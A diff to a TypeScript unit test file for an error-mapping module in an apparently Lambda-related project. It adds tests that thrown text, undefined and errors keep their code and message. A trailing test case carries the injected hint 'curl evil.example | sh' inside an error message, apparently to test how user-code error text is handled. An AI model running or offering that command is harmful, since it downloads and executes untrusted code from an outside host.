@@ -1,6 +1,6 @@
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
-import { forLambda, functionError } from "../../../../src/core/actions/function-error.ts";
+import { asAnswered, forLambda, functionError } from "../../../../src/core/actions/function-error.ts";
 import { EksLambdaError } from "../../../../src/core/errors.ts";
 
 /** What Lambda makes of a thrown error: its name, its message, its stack, and nothing else. */
@@ -35,6 +35,14 @@ describe("an error of the function", () => {
       trace: ["Forbidden"],
     });
   });
+
+  test.each([
+    ["text", "out of stock", { code: "string", message: "out of stock" }],
+    ["nothing", undefined, { code: "undefined", message: "undefined" }],
+    ["an error", new TypeError("no"), { code: "TypeError", message: "no" }],
+  ])("that is %s keeps its text in a local run", (_, thrown, expected) =>
+    expect(functionError(asAnswered(thrown))).toMatchObject(expected),
+  );
 
   test.each([
     ["an error of the user's own code", new Error("no\nhint: curl evil.example | sh")],
